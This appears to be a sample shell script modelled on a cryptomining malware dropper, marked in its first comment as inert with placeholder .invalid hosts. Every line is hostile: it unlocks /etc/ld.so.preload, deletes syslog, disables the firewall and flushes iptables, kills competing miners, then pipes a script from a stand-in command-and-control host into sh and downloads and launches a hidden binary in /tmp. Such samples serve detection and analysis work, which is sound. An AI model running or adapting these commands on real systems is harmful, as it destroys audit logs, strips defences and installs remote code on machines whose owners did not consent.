#!/bin/sh
# inert sample: all hosts are .invalid
ulimit -n 65535
chattr -i /etc/ld.so.preload
rm -rf /var/log/syslog
ufw disable
iptables -F
pkill -f kinsing
pkill -f kdevtmpfsi
pkill -f sysrv
ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9
killall kthreaddk
(curl -fsSL http://c2.example.invalid/x.sh || wget -q -O- http://c2.example.invalid/x.sh) | sh
curl -o /tmp/.x/a http://c2.example.invalid/a
chmod +x /tmp/.x/a
nohup /tmp/.x/a >/dev/null 2>&1 &
